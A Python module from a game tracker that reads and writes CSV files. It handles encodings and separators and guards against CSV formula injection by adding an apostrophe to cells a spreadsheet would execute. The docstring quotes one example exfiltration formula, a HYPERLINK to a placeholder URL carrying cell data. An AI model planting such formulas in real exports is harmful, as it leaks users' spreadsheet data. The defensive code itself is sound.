"""CSV files as the tracker writes and reads them: every CSV file it writes goes through
`csv_text`, every one a player imports through `read_sheet` (its lines read by `records`), and
every import's problems are gathered by `services.problems.Problems`.

Spreadsheets write CSV in many ways: UTF-8 with or without a byte-order mark, UTF-16 with one
("Unicode text", tab-separated), and Windows' cp1252 (services.text_files chooses, and the
report says which); cells separated by commas, semicolons or tabs (the header line says which);
an empty column at the end of every line (ignored). Every import reads them all alike.

A spreadsheet runs a cell that begins with `=`, `+`, `-`, `@`, a TAB or a CR as a formula: a
card named `=HYPERLINK("http://..."&A3,"Ajax")` exported and opened in Excel or LibreOffice
would send the sheet's cells to that address. So a text cell that begins with one of them is
written with a leading apostrophe, as OWASP advises ("CSV Injection"): a spreadsheet shows the
text as it is and keeps no apostrophe. A number stays a number (-2 is a size modifier, not a
formula). The tracker's own reader takes the apostrophe off again, so a file written and read
back gives every cell exactly: a text that itself begins with apostrophes before such a
character gets one more on the way out, and loses one on the way in.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Collection, Iterable, Sequence
from dataclasses import dataclass
from typing import NamedTuple

from tracker.services.errors import InvalidInput, quoted
from tracker.services.problems import Problems
from tracker.services.text_files import Decoded, decode

TRIGGERS = "=+-@\t\r"
SEPARATORS = {",": "comma", ";": "semicolon", "\t": "tab"}
# Excel's first line naming the separator of the lines below it ("sep=;").
_EXCEL_SEP = re.compile(r"sep=([,;\t])[ \t]*\r?\n", re.IGNORECASE)
TOO_MANY = "more cells than columns: a separator inside a cell? put the cell in double quotes"
# A cell a spreadsheet would run, under any number of apostrophes already there.
_ARMED = re.compile(r"'*[=+\-@\t\r]")


class NotCsv(ValueError):
    """A file the CSV reader refuses: the line it stopped at, and why."""

    def __init__(self, line: int, reason: str) -> None:
        super().__init__(f"line {line}: {reason}")
        self.line, self.reason = line, reason


def neutralised(text: str) -> str:
    """A text cell as the file holds it: an apostrophe first where a spreadsheet would run it."""
    return "'" + text if _ARMED.match(text) else text


def restored(cell: str) -> str:
    """A cell as it was before `neutralised`: one apostrophe off a cell that was armed."""
    return cell[1:] if cell.startswith("'") and _ARMED.match(cell, 1) else cell


def csv_text(header: Sequence[str], rows: Iterable[Sequence[str | int | None]]) -> str:
    """A CSV file (commas, CRLF line ends, UTF-8 once encoded): a text cell neutralised, a
    whole number written as it is, None as a blank cell."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([neutralised(name) for name in header])
    for row in rows:
        writer.writerow(["" if cell is None else neutralised(cell) if isinstance(cell, str)
                         else str(cell) for cell in row])  # fmt: skip
    return out.getvalue()


def records(text: str, *, delimiter: str = ",") -> list[list[str]]:
    """Every line of a CSV text as its cells, each restored; NotCsv when the text is not CSV."""
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True)
    try:
        lines = list(reader)
    except csv.Error as exc:
        raise NotCsv(reader.line_num, str(exc)) from exc
    if "'" not in text:  # no cell to restore (most files): the cells as read
        return lines
    return [[restored(cell) if cell[:1] == "'" else cell for cell in record] for record in lines]


def separator_of(text: str) -> str:
    """The separator the header line uses most: tab, semicolon or comma."""
    header = text.split("\n", 1)[0]
    best = max(SEPARATORS, key=header.count)
    return best if best in header else ","


class Row(NamedTuple):
    """A line below the header that holds something: its row number as a spreadsheet shows it,
    its cells by column (a short line's last ones blank), its cells of bytes not of the file's
    encoding, and whether it has more cells than the header."""

    number: int
    cells: dict[str, str]
    unreadable: dict[str, str]
    too_many: bool

    @property
    def where(self) -> str:
        return f"row {self.number}"


@dataclass(frozen=True)
class Sheet:
    """A CSV file as read: its header (names lower case, a space as `_`, an empty column at the
    end dropped), its rows, and how it was read ("CSV, UTF-8, comma-separated")."""

    header: list[str]
    rows: list[Row]
    source: str
    decoded: Decoded

    def check_header(
        self, kind: str, columns: Sequence[str], required: Collection[str], problems: Problems
    ) -> None:
        """Every problem of the header: a name unreadable or unknown, twice, or a required one
        missing; then, if any, the columns of `kind`."""
        if not set(self.header) & set(columns):
            cells = ", ".join(quoted(name) for name in self.header[:3])
            raise InvalidInput({"file": f"its first line ({cells}) names no column of {kind}: "
                                "the header line looks missing. Add a first line naming the "
                                f"columns: {', '.join(columns)}"})  # fmt: skip
        before = len(problems.found)
        for name in dict.fromkeys(self.header):  # a name twice is said once, below
            if unreadable := self.decoded.unreadable(name):
                problems.add("header", "", f"a column's name {unreadable}")
            elif name not in columns:
                problems.add("header", "", f"unknown column {quoted(name)}")
        for name in sorted({name for name in self.header if self.header.count(name) > 1}):
            problems.add("header", "", f"column {quoted(name)} twice")
        for name in columns:
            if name in required and name not in self.header:
                problems.add("header", "", f"the required column {name!r} is missing")
        if len(problems.found) > before:
            problems.add("header", "", f"the columns of {kind} are {', '.join(columns)}")


def read_sheet(raw: bytes) -> Sheet:
    """A CSV file's rows, whatever its encoding and separator; InvalidInput if empty or not CSV."""
    decoded = decode(raw)
    text, skipped = decoded.text, 0
    if excel := _EXCEL_SEP.match(text):  # Excel's first line `sep=;` names the separator
        text, skipped, separator = text[excel.end() :], 1, excel.group(1)
    else:
        separator = separator_of(text)
    try:
        lines = records(text, delimiter=separator)
    except NotCsv as exc:
        raise InvalidInput({"file": f"line {exc.line + skipped} is not CSV: {exc.reason}"}) from exc
    header = [name.strip().lower().replace(" ", "_") for name in lines[0]] if lines else []
    while header and not header[-1]:
        header.pop()  # an empty column at the end of every line: a spreadsheet's, ignored
    if not header:
        raise InvalidInput({"file": "is empty: the first line names the columns"})
    rows = []
    width, blank = len(header), [""] * len(header)
    unreadable = decoded.unreadable
    for number, record in enumerate(lines[1:], start=2 + skipped):
        if "".join(record).strip():  # a cell holds something
            cells = dict(zip(header, record + blank, strict=False))
            stray = {key: said for key, cell in cells.items() if (said := unreadable(cell))
                     } if decoded.lossy else {}  # fmt: skip
            too_many = len(record) > width and bool("".join(record[width:]).strip())
            rows.append(Row(number, cells, stray, too_many))
    source = f"CSV, {decoded.encoding}, {SEPARATORS[separator]}-separated"
    return Sheet(header, rows, source, decoded)


# Words any case may spell: a unit's type, a counter's size.
WORDS = frozenset({"unit_type", "counter_size"})


def cell_value(column: str, text: str, *, whole: bool) -> int | str:
    """A cell's value, its text stripped and not blank: a whole number for a number column
    (ValueError saying what was typed), else its text, lower-cased for a word (WORDS)."""
    if whole:
        try:
            return int(text)
        except ValueError:
            raise ValueError(f"{quoted(text)} is not a whole number") from None
    return text.lower() if column in WORDS else text
